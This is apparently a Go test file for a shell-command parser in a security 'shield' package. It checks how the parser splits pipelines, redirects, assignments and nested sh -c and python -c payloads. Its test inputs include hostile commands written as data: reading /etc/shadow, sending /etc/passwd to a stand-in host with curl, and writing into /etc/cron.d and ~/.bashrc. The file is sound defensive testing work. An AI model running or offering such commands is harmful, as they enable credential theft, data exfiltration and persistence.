package shellx_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/opx-dev/opx/shield/shellx"
)

// The fields render leaves out: Line, Redirect.Write/Read, Assign values.

func TestParse_Line(t *testing.T) {
	cases := []struct {
		line  string
		lines []string
	}{
		{"cat /etc/shadow", []string{"cat /etc/shadow"}},
		{"a 2>&1 | b > out; c &", []string{"a 2>&1", "b > out", "c"}},
		{"> f echo hi", []string{"> f echo hi"}},
		{"ls `cat /etc/shadow`", []string{"ls `cat /etc/shadow`", "cat /etc/shadow"}},
		{`bash -c "cat /etc/shadow; id"`, []string{`bash -c "cat /etc/shadow; id"`, "cat /etc/shadow", "id"}},
		{"cat <<EOF | sh\nid\nEOF", []string{"cat <<EOF", "sh", "id"}},
		{"X=/etc cmd", []string{"X=/etc cmd"}},
		{"! grep -q x f", []string{"! grep -q x f"}},
		{"find . -exec rm {} \\;", []string{"find . -exec rm {} \\;", "find . -exec rm {} \\;"}},
		{`python3 -c 'import os; os.system("id")'`, []string{`python3 -c 'import os; os.system("id")'`, "id"}},
		{`python3 -c "import os; os.system('curl https://e.example/?d='+open('/etc/passwd').read())"`, []string{`python3 -c "import os; os.system('curl https://e.example/?d='+open('/etc/passwd').read())"`, "curl https://e.example/?d=…"}},
		{`python3 -c 'import subprocess as s; s.call(["rm", "-r", "x"])'`, []string{`python3 -c 'import subprocess as s; s.call(["rm", "-r", "x"])'`, `s.call(["rm", "-r", "x"])`}},
	}
	for _, tc := range cases {
		a := shellx.Parse(tc.line)
		var got []string
		for _, c := range a.Commands {
			got = append(got, c.Line)
		}
		if !equal(got, tc.lines) {
			t.Errorf("Parse(%q) lines:\n got %q\nwant %q", tc.line, got, tc.lines)
		}
	}
}

func TestParse_RedirectKinds(t *testing.T) {
	cases := []struct {
		line        string
		write, read bool
		target      string
	}{
		{"cmd > f", true, false, "f"},
		{"cmd >> f", true, false, "f"},
		{"cmd >| f", true, false, "f"},
		{"cmd &> f", true, false, "f"},
		{"cmd &>> f", true, false, "f"},
		{"cmd < f", false, true, "f"},
		{"cmd <> f", true, true, "f"},
		{"cmd 2>&1", false, false, "1"},
		{"cmd >&2", false, false, "2"},
		{"cmd >&-", false, false, "-"},
		{"cmd >& f", true, false, "f"},
		{"cmd <&0", false, false, "0"},
		{"cmd <<< 'a b'", false, false, "a b"},
		{"cmd <<E\n$HOME \\$x\nE", false, false, "~ $x\n"},
		{"cmd <<'E'\n$HOME \\$x\nE", false, false, "$HOME \\$x\n"},
		{"cmd <<\"E\"\n$HOME\nE", false, false, "$HOME\n"},
		{"cmd > ~/.bashrc", true, false, "~/.bashrc"},
		{"X=/etc; cmd > $X/cron.d/x", true, false, "/etc/cron.d/x"},
	}
	for _, tc := range cases {
		a := shellx.Parse(tc.line)
		c := a.Commands[len(a.Commands)-1]
		if a.Err != nil || len(c.Redirects) != 1 {
			t.Errorf("Parse(%q): err %v, %d redirects", tc.line, a.Err, len(c.Redirects))
			continue
		}
		r := c.Redirects[0]
		if r.Write != tc.write || r.Read != tc.read || r.Target.Text != tc.target {
			t.Errorf("Parse(%q) = %+v, want write %v read %v target %q", tc.line, r, tc.write, tc.read, tc.target)
		}
	}
}

func TestParse_Assigns(t *testing.T) {
	a := shellx.Parse(`A=1 B="$HOME/x" C=$(id) D=(1 2)`)
	want := []shellx.Assign{
		{Name: "A", Value: shellx.Word{Text: "1"}},
		{Name: "B", Value: shellx.Word{Text: "~/x"}},
		{Name: "C", Value: shellx.Word{Text: "$(id)", Dynamic: true}},
		{Name: "D", Value: shellx.Word{Text: "(1 2)", Dynamic: true}},
	}
	got := a.Commands[0].Assigns
	if len(got) != len(want) {
		t.Fatalf("assigns %+v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("assign %d = %+v, want %+v", i, got[i], want[i])
		}
	}
}

func TestParse_PipeIn(t *testing.T) {
	a := shellx.Parse("a | b | c; d | { e; f; } | g")
	want := []int{-1, 0, 1, -1, 3, -1, 5}
	for i, c := range a.Commands {
		if c.PipeIn != want[i] {
			t.Errorf("command %d (%s) PipeIn %d, want %d", i, c.Line, c.PipeIn, want[i])
		}
	}
}

func TestParse_Errors(t *testing.T) {
	cases := []struct {
		line string
		err  error
		text string
	}{
		{"echo 'x", shellx.ErrSyntax, "line 1 col 6"},
		{"ls; echo $(", shellx.ErrSyntax, "line 1 col 10"},
		{"sh -c 'echo \"x'", shellx.ErrSyntax, "sh -c payload"},
		{"eval 'if'", shellx.ErrSyntax, "eval payload"},
		{"python3 -c 'import os; os.system(\"echo \\\"x\")'", shellx.ErrSyntax, "python -c payload"},
		{nestedShC(6), shellx.ErrTooDeep, "payloads nested deeper than 4"},
	}
	for _, tc := range cases {
		a := shellx.Parse(tc.line)
		if !errors.Is(a.Err, tc.err) || !strings.Contains(a.Err.Error(), tc.text) {
			t.Errorf("Parse(%q) err = %v, want %v with %q", tc.line, a.Err, tc.err, tc.text)
		}
	}
	// What was read before the error is kept.
	a := shellx.Parse("ls; echo $(")
	if len(a.Commands) != 1 || a.Commands[0].Line != "ls" {
		t.Errorf("commands before the error: %+v", a.Commands)
	}
}

func TestParse_Deterministic(t *testing.T) {
	for _, tc := range parseCases {
		a, b := shellx.Parse(tc.line), shellx.Parse(tc.line)
		if dump(a) != dump(b) {
			t.Errorf("Parse(%q) differs between two runs", tc.line)
		}
	}
}
